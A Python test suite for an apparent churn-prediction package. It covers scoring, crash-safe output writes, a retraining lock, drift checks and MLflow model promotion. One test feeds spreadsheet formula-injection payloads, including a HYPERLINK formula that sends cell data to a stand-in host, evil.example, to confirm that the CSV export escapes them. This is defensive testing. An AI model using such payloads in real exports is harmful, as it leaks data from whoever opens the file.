"""The scoring function, atomic outputs, and the retraining job (decisions, lock, kill)."""

import csv
import hashlib
import multiprocessing
import os
import re
import signal
import stat
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from mlflow.tracking import MlflowClient

import churnml as cm
from churnml.evaluation import population_stability
from churnml.ops.retrain import _lock, retrain
from churnml.ops.serving import score
from churnml.files import sweep
from churnml.output import for_people, write_outputs

from tests.conftest import run_cli

pytestmark = pytest.mark.slow


def _config(tmp_path, name: str) -> dict:
    return {"tracking": {"uri": f"sqlite:///{tmp_path / 'mlflow.db'}", "registered_model": name}, "retrain": {"output_dir": str(tmp_path / "out")}}


def test_score_lists_every_customer_once_with_last_dates(sample, sample_model, tmp_path):
    warnings = score(sample, sample_model, "2025-06-01")
    assert sorted(warnings.customer_id) == sorted(sample.to_pandas("customers").customer_id)
    assert {"last_order_date", "last_interaction_date", "primary_cause", "reasons"} <= set(warnings.columns)
    assert (warnings.last_order_date.dropna() < pd.Timestamp("2025-06-01")).all()
    assert not set(for_people(warnings, "zh").columns) & set(warnings.columns)  # every header for people translated, the last dates too
    assert {"last order", "last interaction"} <= set(for_people(warnings, "en").columns)
    saved = sample_model.save(tmp_path / "model")
    pd.testing.assert_frame_equal(score(sample, str(saved), "2025-06-01"), warnings)


def test_write_atomic_keeps_the_previous_list_when_a_write_fails(tmp_path, monkeypatch):
    frame = pd.DataFrame({"customer_id": ["a", "b"], "cause_shares": [{"price": 1.0}, None], "reasons": [["x"], []]})
    parquet, csv = write_outputs(frame, tmp_path / "warnings")
    back = pd.read_parquet(parquet)
    assert back.cause_shares.iloc[0] == '{"price": 1.0}' and pd.isna(back.cause_shares.iloc[1]) and back.reasons.iloc[0] == '["x"]'
    before = csv.read_bytes()

    def broken(self, *args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        write_outputs(frame.assign(customer_id=["c", "d"]), tmp_path / "warnings")
    assert csv.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["warnings.csv", "warnings.parquet"]  # no temporary file left


_KILLED_WRITER = """
import os, signal, sys
import pandas as pd
from churnml.output import write_outputs

def killed(self, *args, **kwargs):  # the Parquet file is written, the CSV is not: SIGKILL here
    os.kill(os.getpid(), signal.SIGKILL)

pd.DataFrame.to_csv = killed
write_outputs(pd.DataFrame({"customer_id": ["new"]}), sys.argv[1])
"""


def test_a_writer_killed_mid_write_leaves_the_previous_pair_and_the_next_write_cleans_up(tmp_path):
    # a kill inside the writes left .warnings_* files and a Parquet/CSV pair from different runs
    stem = tmp_path / "warnings"
    parquet, csv = write_outputs(pd.DataFrame({"customer_id": ["old"]}), stem)
    killed = subprocess.run([sys.executable, "-c", _KILLED_WRITER, str(stem)], capture_output=True, text=True, timeout=120)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert pd.read_parquet(parquet).customer_id.tolist() == ["old"] and "old" in csv.read_text(encoding="utf-8-sig")  # still one pair
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]
    assert len(leftovers) == 2 and all(n.startswith((".warnings.parquet.tmp-", ".warnings.csv.tmp-")) for n in leftovers)
    write_outputs(pd.DataFrame({"customer_id": ["next"]}), stem)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["warnings.csv", "warnings.parquet"]
    assert pd.read_parquet(parquet).customer_id.tolist() == ["next"] and "next" in csv.read_text(encoding="utf-8-sig")


def test_a_directory_moved_aside_by_a_killed_writer_is_put_back(tmp_path, sample_model):
    # killed between moving the old model aside and renaming the new one in: no model at the path at all
    saved = sample_model.save(tmp_path / "model")
    saved.rename(tmp_path / ".model.old")
    assert sweep(tmp_path / "model") == [] and cm.ChurnModel.load(tmp_path / "model").fitted_.name == sample_model.fitted_.name


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_lists_get_the_permissions_the_umask_gives_new_files(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        written = write_outputs(pd.DataFrame({"customer_id": ["a"]}), tmp_path / "warnings")
    finally:
        os.umask(previous)
    assert [stat.S_IMODE(p.stat().st_mode) for p in written] == [mode, mode]  # not tempfile's private 0600


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,1)", "@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\n@x"]


def test_csv_for_people_neutralises_spreadsheet_formulas_and_the_parquet_stays_exact(tmp_path):
    n = len(FORMULAS)
    frame = pd.DataFrame({
        "customer_id": FORMULAS, "warning_level": [1] * n, "churn_probability": np.linspace(0.1, 0.9, n),
        "health_change": [-2.5] * n, "reasons": [[f] for f in FORMULAS], "region": pd.Series(FORMULAS, dtype="string"),
    })
    frame["=cmd"] = "-1"  # a header and an object column of negative-looking text are text too
    parquet, path = write_outputs(frame, tmp_path / "warnings")
    with path.open(encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    people = dict(zip(header, zip(*rows)))
    assert set(people.pop("health_change")) == {"-2.5"}  # numbers stay numbers
    danger = tuple("=+-@\t\r")
    for cell in [*people, *(c for column in people.values() for c in column)]:  # every other cell, headers too
        assert not cell.startswith(danger) and not cell.lstrip().startswith(danger), repr(cell)
    assert list(people["customer"]) == list(people["region"]) == ["'" + f for f in FORMULAS] and set(people["'=cmd"]) == {"'-1"}
    machines = pd.read_parquet(parquet)  # exact for machines
    assert machines.customer_id.tolist() == FORMULAS and (machines.health_change == -2.5).all() and (machines["=cmd"] == "-1").all()


def _take_the_lock_in_turn(directory, start, log, seconds):
    """A worker process: waits for the start file, then takes the retrain lock (retrying while busy) and holds it."""
    while not start.exists():
        time.sleep(0.001)
    busy, deadline = "", time.time() + 15
    while time.time() < deadline:
        try:
            with _lock(directory):
                entered = time.time()
                time.sleep(seconds)
                left = time.time()
            break
        except RuntimeError as error:
            busy = busy or str(error)
            time.sleep(0.005)
    else:
        os._exit(3)
    (log / f"{os.getpid()}.txt").write_text(f"{entered} {left}\n{busy}")


@pytest.mark.parametrize("left_behind", ["", "stale"])
def test_concurrent_retrain_runs_take_the_lock_one_at_a_time(tmp_path, left_behind):
    if left_behind:  # the lock of a run that died: every process sees it at once
        dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
        (tmp_path / "retrain.lock").write_text(dead)
    start, log = tmp_path / "start", tmp_path / "log"
    log.mkdir()
    fork = multiprocessing.get_context("fork")  # POSIX, like the lock; the children need no new imports
    workers = [fork.Process(target=_take_the_lock_in_turn, args=(tmp_path, start, log, 0.5)) for _ in range(6)]
    for w in workers:
        w.start()
    time.sleep(0.2)
    start.touch()
    for w in workers:
        w.join(30)
    assert [w.exitcode for w in workers] == [0] * 6
    runs = {int(p.stem): p.read_text().split("\n", 1) for p in log.iterdir()}
    spans = sorted(tuple(map(float, times.split())) for times, _ in runs.values())
    assert len(spans) == 6 and all(a_left <= b_entered for (_, a_left), (b_entered, _) in zip(spans, spans[1:])), spans
    busy = [message for _, message in runs.values() if message]
    assert len(busy) >= 5 and all(f"holds {tmp_path / 'retrain.lock'}; try again" in m for m in busy)
    named = {int(p) for m in busy for p in re.findall(r"\(pid (\d+)\)", m)}
    assert named & set(runs)  # the holder's pid (a waiter may read the file between flock and the holder's write)


def test_a_lock_file_left_behind_does_not_block(tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    lock = tmp_path / "retrain.lock"
    # a crash between create and write; a dead run's pid; a pid reused by a live process (this one, init)
    for content in ["", "0", "garbage", dead, str(os.getpid()), "1"]:
        lock.write_text(content)
        with _lock(tmp_path):
            assert lock.read_text() == str(os.getpid())
        assert lock.exists()  # never deleted: there is nothing to race on


def _hold_the_lock(directory, held):
    with _lock(directory):
        held.touch()
        time.sleep(60)


def test_a_killed_run_does_not_block_the_next_one(tmp_path):
    held = tmp_path / "held"
    holder = multiprocessing.get_context("fork").Process(target=_hold_the_lock, args=(tmp_path, held))
    holder.start()
    deadline = time.time() + 10
    while not held.exists() and time.time() < deadline:
        time.sleep(0.01)
    with pytest.raises(RuntimeError, match=f"another retraining run \\(pid {holder.pid}\\) holds {re.escape(str(tmp_path / 'retrain.lock'))}"):
        with _lock(tmp_path):
            pass
    os.kill(holder.pid, signal.SIGKILL)
    holder.join(10)
    assert holder.exitcode == -signal.SIGKILL
    with _lock(tmp_path):  # the kernel released the dead run's lock; its pid is still in the file
        pass


def test_population_stability_flags_a_shift():
    rng = np.random.default_rng(1)
    base = pd.Series(rng.normal(size=4000))
    assert population_stability(base, pd.Series(rng.normal(size=4000))) < 0.05
    assert population_stability(base, pd.Series(rng.normal(1.0, 1, size=4000))) > 0.25
    assert population_stability(base, base.where(rng.random(4000) > 0.5)) > 0.25  # half of the values went missing


@pytest.fixture(scope="module")
def first_run(sample, tmp_path_factory):
    """The job's first run, 2025-12-01, into an empty registry: the state the later runs start from.

    The tests below continue one job's life in file order (a live lock, a run killed halfway, the
    next month's run after it, the same month again), so that it is fitted twice, not five times.
    """
    home = tmp_path_factory.mktemp("job")
    cfg = _config(home, "retrain-test")
    return home, cfg, retrain(cfg, sample, "2025-12-01")


def test_retrain_promotes_the_first_model(first_run):
    home, cfg, first = first_run
    assert first.decision == "promoted" and first.reason.startswith("first model")
    client = MlflowClient(tracking_uri=cfg["tracking"]["uri"])
    assert client.get_model_version_by_alias("retrain-test", "champion").version == first.challenger_version
    listing = pd.read_parquet(home / "out" / "warnings_2025-12-01.parquet")
    assert len(listing) == 2500 and listing.customer_id.is_unique
    lost = pd.read_parquet(home / "out" / "winback_2025-12-01.parquet")  # the win-back list beside it: the lapsed, once each
    assert first.winback_list == [str(home / "out" / f"winback_2025-12-01.{ext}") for ext in ("parquet", "csv")]
    assert sorted(lost.customer_id) == sorted(listing.customer_id[listing.status == "lapsed"])
    with _lock(home / "out"):  # released
        pass


def test_a_running_job_holds_the_lock(first_run, sample):
    home, cfg, _ = first_run
    with _lock(home / "out"):  # a live run holds it
        with pytest.raises(RuntimeError, match=f"another retraining run \\(pid {os.getpid()}\\) holds"):
            retrain(cfg, sample, "2026-01-01")


def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the_next_run_decides(first_run, sample, sample_model):
    home, cfg, first = first_run
    listing = home / "out" / "warnings_2025-12-01.parquet"
    digest = hashlib.sha256(listing.read_bytes()).hexdigest()
    config_file = home / "retrain.yaml"
    import yaml

    config_file.write_text(yaml.safe_dump({**cfg, "retrain": {**cfg["retrain"], "tables": str(cm.datasets.SAMPLE_DIR)}}))
    process = subprocess.Popen([sys.executable, "-m", "churnml", "retrain", "--config", str(config_file), "--as-of", "2026-01-01"], stderr=subprocess.PIPE)
    # kill while it trains: after it took the lock, before it could finish
    lock = home / "out" / "retrain.lock"
    deadline = time.time() + 60
    while lock.read_text() != str(process.pid) and time.time() < deadline:
        time.sleep(0.05)
    time.sleep(2.0)
    process.send_signal(signal.SIGKILL)
    process.wait(30)
    assert process.returncode == -signal.SIGKILL
    client = MlflowClient(tracking_uri=cfg["tracking"]["uri"])
    assert client.get_model_version_by_alias("retrain-test", "champion").version == first.challenger_version
    assert hashlib.sha256(listing.read_bytes()).hexdigest() == digest
    assert not [p for p in (home / "out").iterdir() if p.name.startswith(".")]  # no half-written list
    assert not (home / "out" / "warnings_2026-01-01.parquet").exists()
    assert lock.read_text() == str(process.pid)  # the dead run's pid is left behind, its lock is not

    # a list written long enough ago for its labels to be complete now: the next run measures it
    write_outputs(score(sample, sample_model, "2025-03-01"), home / "out" / "warnings_2025-03-01")
    # and files people leave beside them: ignored and named, not parsed as dates after the training
    for stray in ("warnings_2025-03-01 (copy).parquet", "warnings_2025-13-45.parquet"):
        (home / "out" / stray).write_bytes((home / "out" / "warnings_2025-03-01.parquet").read_bytes())
    # the next run takes the lock the kernel released, does the work and decides against the champion
    second = retrain(cfg, sample, "2026-01-01")
    assert second.decision in ("promoted", "kept_champion") and "champion" in second.reason
    assert second.champion_metrics and second.challenger_metrics
    # the simple baselines on the same rows; on the sample LightGBM ranks better, so the reason has no note
    recency = second.baseline_metrics["recency"]
    assert 0.5 < recency["auc_roc"] < second.challenger_metrics["auc_roc"] and recency["ece"] is None
    assert set(second.baseline_metrics) == {"recency", "rfm_logistic", "bgnbd", "pareto_nbd"} and "ranks the test slice better" not in second.reason
    run = client.get_run(second.run_id)
    assert run.data.tags["churnml.decision"] == second.decision
    assert "drift.psi.days_since_last_activity" in run.data.metrics and "expected.level1.precision" in run.data.metrics
    realised = pd.read_csv(client.download_artifacts(second.run_id, "realised_precision.csv", str(home)))
    assert set(realised.list_as_of) == {"2025-03-01"} and set(realised.warning_level) <= {1, 2, 3}
    champion = client.get_model_version_by_alias("retrain-test", "champion").version
    assert champion == (second.challenger_version if second.decision == "promoted" else first.challenger_version)

    again = retrain(cfg, sample, "2026-01-01")
    assert again.decision in ("already_done", "kept_champion")
    assert client.get_model_version_by_alias("retrain-test", "champion").version == champion


def test_a_corrupt_champion_is_named_and_can_be_replaced_by_a_first_model(first_run, sample):
    # it blocked every later retrain
    home, cfg, _ = first_run
    client = MlflowClient(tracking_uri=cfg["tracking"]["uri"])
    broken = client.get_model_version_by_alias("retrain-test", "champion")
    location = urllib.parse.urlparse(client.get_model_version_download_uri("retrain-test", broken.version)).path
    (artifact,) = Path(location).rglob("model.pickle")
    artifact.write_bytes(b"corrupt")
    listing = home / "out" / "warnings_2026-01-01.parquet"
    before = listing.read_bytes()
    with pytest.raises(RuntimeError, match=f"the champion, version {broken.version} of 'retrain-test', cannot be loaded.*replace_broken_champion=True"):
        retrain(cfg, sample, "2026-01-01")
    assert listing.read_bytes() == before
    fixed = retrain(cfg, sample, "2026-01-01", replace_broken_champion=True)
    assert fixed.decision == "promoted" and fixed.reason.startswith(f"champion version {broken.version} cannot be loaded, judged as a first model")
    assert client.get_model_version_by_alias("retrain-test", "champion").version == fixed.challenger_version != broken.version
    assert pd.read_parquet(listing).customer_id.is_unique


def test_cli_retrain_reports_a_clear_error_and_exit_code(tmp_path):
    out = run_cli("retrain", "--config", tmp_path / "nope.yaml")
    assert out.returncode == 2 and "does not exist" in out.stderr and "Traceback" not in out.stderr
    config_file = tmp_path / "retrain.yaml"
    config_file.write_text("retrain:\n  output_dir: out\n")
    out = run_cli("retrain", "--config", config_file, cwd=tmp_path)
    assert out.returncode == 2 and "retrain.tables" in out.stderr


def _with_order_on(sample, day: str) -> dict[str, pd.DataFrame]:
    frames = {name: sample.to_pandas(name) for name in sample}
    orders = frames["orders"]
    stray = orders.iloc[[0]].assign(order_id="stray-1", order_date=pd.Timestamp(day))
    return {**frames, "orders": pd.concat([orders, stray], ignore_index=True)}


def test_one_order_typed_in_the_future_neither_moves_the_default_as_of_nor_passes_unsaid(sample, sample_model, caplog):
    # a typo of 2099 made 2,473 of 2,500 customers lapsed; one order two months after the data's end
    # put everyone at level 1: the default as_of followed the single latest order
    expected = score(sample, sample_model)
    assert expected.as_of.iloc[0] == pd.Timestamp("2026-01-01")
    with pytest.raises(cm.DataValidationError, match=r"1 row\(s\) are after the data was loaded .*\[future_date\]"):
        cm.load_tables(_with_order_on(sample, "2099-01-15"))
    for day, config in [("2026-03-15", None), ("2099-01-15", {"validation": {"future_date": "warn"}})]:
        caplog.clear()
        tables = cm.load_tables(_with_order_on(sample, day), config)
        got = score(tables, sample_model)
        assert got.as_of.iloc[0] == pd.Timestamp("2026-01-01"), day
        assert "1 row(s) from" in caplog.text and "not where the data ends (2025-12-31 23:58:57)" in caplog.text
        assert got.warning_level.value_counts().to_dict() == expected.warning_level.value_counts().to_dict()
        assert cm.labels.labelled_dates(tables) == cm.labels.labelled_dates(sample)


def test_scoring_faults_are_clear(sample, sample_model, tmp_path, caplog):
    # fewer tables than training only logged a warning: level 1 went from 256 to 929 customers
    fewer = {name: sample.to_pandas(name) for name in sample if name not in ("tickets", "surveys")}
    with pytest.raises(cm.MissingInputsError, match=r"lack: .*complaints_3m.* \(tables surveys, tickets\).*allow_missing=True"):
        score(fewer, sample_model, "2025-06-01")
    warnings = score(fewer, sample_model, "2025-06-01", allow_missing=True)
    assert len(warnings) == 2500 and warnings.customer_id.is_unique
    assert "scoring without" in caplog.text and "complaints_3m" in caplog.text  # missing tables: their indicators count as missing
    scored = warnings.status == "scored"
    assert warnings.missing_inputs[scored].str.endswith("(tables surveys, tickets)").all()
    assert "scored without" in for_people(warnings).columns  # people see it in the list
    with pytest.raises(ValueError, match="outside the data"):
        score(sample, sample_model, "2030-01-01")
    broken = sample_model.save(tmp_path / "broken")
    (broken / "model.pickle").write_bytes(b"not a model")
    with pytest.raises(ValueError, match="is not a readable churnml model"):
        score(sample, str(broken))
    with pytest.raises(FileNotFoundError, match="no churnml model"):
        score(sample, str(tmp_path / "missing"))
